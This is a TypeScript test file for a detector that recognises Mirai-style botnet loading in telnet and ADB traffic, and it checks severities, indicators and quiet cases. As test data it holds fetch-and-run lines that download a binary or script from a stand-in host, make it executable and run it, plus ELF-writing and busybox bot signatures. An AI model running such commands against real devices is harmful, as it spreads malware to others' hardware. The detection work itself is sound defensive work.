import { describe, expect, it } from 'vitest'
import { audit } from '../../audit/audit.ts'
import { corpus } from '../../testing/corpus.ts'
import { local, Recorder, stranger } from '../../testing/recorder.ts'
import { between, CAMERA, LAPTOP, observing, stepsIn, STRANGER, told } from '../../testing/signs.ts'
import type { Turn } from '../../testing/dialogue-capture.ts'
import { loader } from './loader.ts'

const CAM = local(0, '192.168.1.20', 23)
const FAR = stranger('203.0.113.9', 40000)

function typed(lines: readonly string[], { seconds = 1, client = FAR, server = CAM } = {}) {
  const recorder = new Recorder(client, server)
  const observe = observing(loader)
  lines.forEach((line, i) => {
    recorder.time += seconds * 1e6
    observe({ protocol: 'telnet', type: 'command', frame: i + 1, fromClient: true, line, answer: '' } as never, recorder)
  })
  return told(loader, recorder)
}

const LINES = ['cat /proc/mounts', 'cd /tmp', 'wget http://203.0.113.9/mirai.arm7 -O a', 'chmod 777 a', './a']

/** An open of ADB: CNXN is not asked for by the decoder when the client's first is one. */
function adb(command: number, arg: string): string {
  const body = Buffer.from(`${arg}\0`)
  const header = Buffer.alloc(24)
  header.writeUInt32LE(command, 0)
  header.writeUInt32LE(body.length, 12)
  header.writeUInt32LE((command ^ 0xffffffff) >>> 0, 20)
  return Buffer.concat([header, body]).toString('latin1')
}
const CNXN = 0x4e584e43
const OPEN = 0x4e45504f

describe('loader', () => {
  it('adds up what was typed, line by line', () => {
    expect(typed(LINES.slice(0, 2))).toEqual([])
    expect(typed(LINES)).toMatchObject([{ host: 0, stage: 'loading', severity: 'high' }])
    const [one] = typed(LINES)
    expect(one!.data.raised).toMatchObject({ frame: { frame: 3 } })
    expect(one!.data.indicators).toEqual([
      { type: 'ip', value: '203.0.113.9', role: 'loader' },
      { type: 'url', value: 'http://203.0.113.9/mirai.arm7', role: 'program' },
    ])
    expect(one!.says).toContain('fetches a program, works in a folder that anybody can write to, makes it runnable, runs it')
  })

  it('is certain of what only bots type', () => {
    expect(typed([...LINES, '/bin/busybox ECCHI'])).toMatchObject([{ severity: 'critical' }])
    expect(typed(["echo -ne '\\x7f\\x45\\x4c\\x46' > /tmp/.d", '/tmp/.d'])).toMatchObject([{ severity: 'critical' }])
  })

  it('is told of a device that does it to others', () => {
    expect(
      typed([...LINES, '/bin/busybox ECCHI'], { client: local(3, '192.168.1.40'), server: stranger('203.0.113.77', 23) }),
    ).toMatchObject([{ host: 3, stage: 'scanning', severity: 'critical' }])
  })

  it('is quiet about what people do', () => {
    expect(typed(['ls', 'ps', 'cat /proc/cpuinfo', 'ifconfig', 'cd /tmp', 'rm -f old.log', 'reboot'])).toEqual([])
    expect(typed(['wget http://192.168.1.5/firmware.bin', 'ls -l'])).toEqual([])
    // each of an hour of its own
    expect(typed(LINES, { seconds: 3600 })).toEqual([])
  })

  it('forgets the oldest where thousands type', () => {
    const recorder = new Recorder(FAR, CAM)
    const observe = observing(loader)
    const say = (line: string, ip: string) => {
      recorder.client = stranger(ip, 40000)
      observe({ protocol: 'telnet', type: 'command', frame: 1, fromClient: true, line, answer: '' } as never, recorder)
    }
    say('cd /tmp', '203.0.113.9')
    for (let i = 0; i < 5000; i++) say('cd /tmp', `198.51.${i >> 8}.${i & 255}`)
    say('wget http://203.0.113.9/a; ./a', '203.0.113.9')
    expect(told(loader, recorder)).toEqual([])
  })

  it('reads ADB: a shell with its command', async () => {
    const command = 'shell:cd /data/local/tmp/; busybox wget http://203.0.113.9/w.sh; sh w.sh; rm -rf w.sh'
    const turns: Turn[] = [
      ['client', adb(CNXN, 'host::')],
      ['server', adb(CNXN, 'device::ro.product.name=box;')],
      ['client', adb(OPEN, command)],
    ]
    expect(await stepsIn(loader, [between(STRANGER, CAMERA, 5555, turns)])).toEqual(['20 loading high adb'])
    const peaceful: Turn[] = [...turns.slice(0, 2), ['client', adb(OPEN, 'shell:getprop ro.build.version.release')]]
    expect(await stepsIn(loader, [between(LAPTOP, CAMERA, 5555, peaceful)])).toEqual([])
  })

  it.skipIf(corpus('malware/id2t/mirai_botnet.pcap') === undefined)('sees who loaded Mirai', async () => {
    const { threats = [] } = await audit([corpus('malware/id2t/mirai_botnet.pcap')!], { threads: 0 })
    const steps = threats.flatMap(({ steps }) => steps).filter(({ detector }) => detector === 'loader')
    expect(steps).toMatchObject([
      { stage: 'loading', severity: 'critical', role: 'target', peer: { ip: '49.182.192.4' }, port: 23 },
    ])
  })
})
